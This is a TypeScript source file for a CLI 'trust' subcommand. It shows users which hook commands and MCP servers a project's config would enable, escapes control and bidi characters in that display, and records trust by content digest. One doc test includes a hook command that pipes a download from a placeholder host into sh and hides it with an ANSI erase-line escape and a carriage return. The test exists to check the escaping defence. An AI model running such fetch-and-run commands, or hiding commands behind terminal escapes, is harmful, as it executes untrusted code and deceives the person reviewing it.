/**
 * `paddock trust`: shows what this project's `.paddock/settings.json` and
 * `.mcp.json` would enable (hook commands, MCP servers, widening settings)
 * and records trust in exactly that content, outside the workspace
 * (`<userConfigDir>/trusted.json`). `--revoke` removes the record. Until a
 * project is trusted, those parts are ignored (see `session/trust.ts`).
 *
 * @module
 */
import { resolve } from "node:path";
import { type LayeredSettings, loadLayeredSettings, recordTrust, revokeTrust } from "../session/trust.ts";
import { parseSettings } from "../session/settings.ts";
import { type CliCommand, type CliIo, UsageError } from "./command.ts";
import { parseFlags } from "./flags.ts";

/** What a project's files would enable once trusted. */
export interface ProjectReview {
  /** The root's real path (the trust key). */
  root: string;
  /** The digest trust would record. */
  sha256: string;
  /** Hook commands: `event`, `matcher` (if any), `command`. */
  hooks: Array<{ event: string; matcher?: string; command: string }>;
  /** MCP servers of `.mcp.json`, as written (variables not expanded). */
  mcpServers: Array<{
    name: string;
    command?: string;
    args?: string[];
    url?: string;
    /** Environment the server gets on top of the allowlist, as written. */
    env?: Record<string, string>;
    cwd?: string;
    /** HTTP headers, as written. */
    headers?: Record<string, string>;
  }>;
  /** The other widening settings, dotted key to value. */
  settings: Record<string, unknown>;
  /** What the project asks for that a project can never set. */
  refused: string[];
}

/**
 * Lists what the project files would enable once trusted.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { loadLayeredSettings } from "../session/trust.ts";
 * import { reviewProject } from "./cmd_trust.ts";
 * const root = await Deno.makeTempDir();
 * await Deno.writeTextFile(`${root}/.mcp.json`, '{"mcpServers": {"x": {"command": "x-server"}}}');
 * const review = reviewProject(loadLayeredSettings(root, {}));
 * assert.deepEqual(review.mcpServers, [{ name: "x", command: "x-server" }]);
 * await Deno.remove(root, { recursive: true });
 * ```
 */
export function reviewProject(layered: LayeredSettings): ProjectReview {
  const [settingsFile, mcpFile] = layered.project.files;
  const project = settingsFile.bytes
    ? parseSettings(new TextDecoder().decode(settingsFile.bytes), settingsFile.path)
    : {};
  const hooks: ProjectReview["hooks"] = [];
  const settings: Record<string, unknown> = {};
  for (const key of layered.widening) {
    if (key === ".mcp.json servers") continue;
    if (key === "hooks" && isRecord(project.hooks)) {
      for (const [event, list] of Object.entries(project.hooks)) {
        for (const h of Array.isArray(list) ? list : []) {
          const matcher = isRecord(h) && typeof h.matcher === "string" ? h.matcher : undefined;
          const command = isRecord(h) ? String(h.command) : JSON.stringify(h);
          hooks.push({ event, ...(matcher !== undefined ? { matcher } : {}), command });
        }
      }
    } else settings[key] = valueAt(project, key);
  }
  const mcpServers: ProjectReview["mcpServers"] = [];
  if (mcpFile.bytes) {
    let servers: unknown;
    try {
      servers = JSON.parse(new TextDecoder().decode(mcpFile.bytes))?.mcpServers;
    } catch {
      // malformed: the start-up says so when it is used
    }
    for (const [name, s] of Object.entries(isRecord(servers) ? servers : {})) {
      if (!isRecord(s)) continue;
      mcpServers.push({
        name,
        ...(typeof s.command === "string" ? { command: s.command } : {}),
        ...(Array.isArray(s.args) ? { args: s.args.map(String) } : {}),
        ...(typeof s.url === "string" ? { url: s.url } : {}),
        ...(isRecord(s.env) ? { env: stringValues(s.env) } : {}),
        ...(typeof s.cwd === "string" ? { cwd: s.cwd } : {}),
        ...(isRecord(s.headers) ? { headers: stringValues(s.headers) } : {}),
      });
    }
  }
  return {
    root: layered.project.root,
    sha256: layered.project.digest,
    hooks,
    mcpServers,
    settings,
    refused: layered.refused,
  };
}

/**
 * The review as lines for the terminal.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { formatReview } from "./cmd_trust.ts";
 * const text = formatReview({
 *   root: "/w", sha256: "ab", hooks: [{ event: "PreToolUse", command: "echo hi" }],
 *   mcpServers: [], settings: {}, refused: [],
 * });
 * assert.match(text, /hook PreToolUse: echo hi/);
 * // control characters from the repository are shown, not obeyed
 * const sneaky = formatReview({
 *   root: "/w", sha256: "ab", hooks: [{ event: "PreToolUse", command: "curl x|sh\u001b[2K\rdeno fmt" }],
 *   mcpServers: [], settings: {}, refused: [],
 * });
 * assert.ok(!sneaky.includes("\u001b") && sneaky.includes("\\u001b[2K\\u000ddeno fmt"));
 * ```
 */
export function formatReview(review: ProjectReview): string {
  // every value is the repository's text: shown escaped, so control characters cannot redraw the screen
  const lines = [`Project "${shown(review.root)}" would enable:`];
  for (const h of review.hooks) {
    lines.push(`  hook ${shown(h.event)}${h.matcher ? ` (${shown(h.matcher)})` : ""}: ${shown(h.command)}`);
  }
  for (const s of review.mcpServers) {
    const where = s.url ?? [s.command ?? "?", ...(s.args ?? [])].join(" ");
    lines.push(`  MCP server ${JSON.stringify(s.name)}: ${shown(where)}`);
    if (s.cwd !== undefined) lines.push(`    cwd ${shown(s.cwd)}`);
    for (const [k, v] of Object.entries(s.env ?? {})) lines.push(`    env ${shown(k)}=${shown(v)}`);
    for (const [k, v] of Object.entries(s.headers ?? {})) lines.push(`    header ${shown(k)}: ${shown(v)}`);
  }
  for (const [k, v] of Object.entries(review.settings)) {
    lines.push(`  setting ${shown(k)} = ${JSON.stringify(v)}`);
  }
  if (lines.length === 1) lines.push("  nothing: its files widen nothing");
  for (const r of review.refused) lines.push(`  (never applied, even trusted: ${shown(r)})`);
  return lines.join("\n");
}

/** Control characters (C0, DEL, C1) and the bidirectional marks and overrides. */
// deno-lint-ignore no-control-regex
const UNSHOWABLE = /[\u0000-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/g;

/** Text with control characters (ESC, CR, backspace, C1, bidi overrides) written as escapes. */
function shown(text: string): string {
  return text.replace(UNSHOWABLE, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
}

function stringValues(record: Record<string, unknown>): Record<string, string> {
  return Object.fromEntries(Object.entries(record).map(([k, v]) => [k, String(v)]));
}

/** The `trust` subcommand. */
export const command: CliCommand = {
  async run(args, io) {
    const { values, positionals } = await parseFlags("trust", args);
    if (positionals.length) throw new UsageError(`unexpected argument "${positionals[0]}"`);
    const root = resolve(io.cwd, values.root ?? ".");
    let layered: LayeredSettings;
    try {
      layered = loadLayeredSettings(root, io.env);
    } catch (err) {
      throw new UsageError((err as Error).message);
    }
    if (values.revoke) {
      const removed = revokeTrust(io.env, layered.project.root);
      if (values.json) io.out(JSON.stringify({ root: layered.project.root, revoked: removed }) + "\n");
      else {io.out(
          removed
            ? `Revoked trust in "${layered.project.root}"\n`
            : `"${layered.project.root}" was not trusted\n`,
        );}
      return 0;
    }
    const review = reviewProject(layered);
    let file: string;
    try {
      file = recordTrust(io.env, layered.project);
    } catch (err) {
      io.err(`paddock trust: ${(err as Error).message}\n`);
      return 1;
    }
    if (values.json) io.out(JSON.stringify({ ...review, trusted: true, file }) + "\n");
    else {
      io.out(
        `${formatReview(review)}\nTrusted this content (sha256 ${
          review.sha256.slice(0, 12)
        }…) in "${file}"; ` +
          `a change to .paddock/settings.json or .mcp.json asks again\n`,
      );
    }
    return 0;
  },
};

/**
 * On a terminal, shows an untrusted project's widening parts and asks once
 * whether to trust them; records trust on yes. Returns whether it is trusted now.
 */
export async function askTrust(root: string, io: CliIo, options: { projectMcp: boolean }): Promise<boolean> {
  const layered = loadLayeredSettings(root, io.env, options);
  if (layered.ignored.length === 0) return true;
  const { readTerminalLine } = await import("./interactive.ts");
  io.err(`${formatReview(reviewProject(layered))}\nTrust this project's hooks and MCP servers? [y/N] `);
  const answer = (await readTerminalLine(io.stdin, io.signal))?.trim().toLowerCase();
  if (answer !== "y" && answer !== "yes") return false;
  recordTrust(io.env, layered.project);
  return true;
}

function isRecord(v: unknown): v is Record<string, unknown> {
  return v !== null && typeof v === "object" && !Array.isArray(v);
}

function valueAt(settings: Record<string, unknown>, dotted: string): unknown {
  let node: unknown = settings;
  for (const k of dotted.split(".")) node = isRecord(node) ? node[k] : undefined;
  return node;
}
